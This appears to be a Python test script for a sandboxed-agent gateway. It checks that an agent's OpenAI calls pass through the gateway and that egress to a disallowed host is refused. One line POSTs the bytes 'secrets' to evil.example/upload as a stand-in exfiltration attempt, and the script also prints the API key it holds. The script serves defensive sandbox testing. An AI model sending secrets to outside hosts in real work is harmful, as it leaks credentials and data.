"""The sandboxed agent: ordinary code, configured only by `sandbox-gateway env` output.

It calls OpenAI with the official SDK (its OPENAI_API_KEY is the gateway token), then
tries a host its policy does not allow. It prints one JSON line of what it saw."""

from __future__ import annotations

import json
import os
import urllib.error
import urllib.request

import openai

out: dict[str, str] = {"key_the_agent_holds": os.environ["OPENAI_API_KEY"]}
client = openai.OpenAI(max_retries=0)
reply = client.chat.completions.create(
    model="gpt-4o-mini", messages=[{"role": "user", "content": "Say hello"}])
out["reply"] = reply.choices[0].message.content or ""
try:
    urllib.request.urlopen("https://evil.example/upload", data=b"secrets", timeout=10)
    out["evil"] = "reached evil.example"
except urllib.error.HTTPError as exc:  # the refusal, answered inside TLS (the default)
    out["evil"] = f"{exc.code} {exc.reason}"
except urllib.error.URLError as exc:  # refused at the CONNECT (refusals.inside_tls: false)
    out["evil"] = str(exc.reason).removeprefix("Tunnel connection failed: ")
print(json.dumps(out))
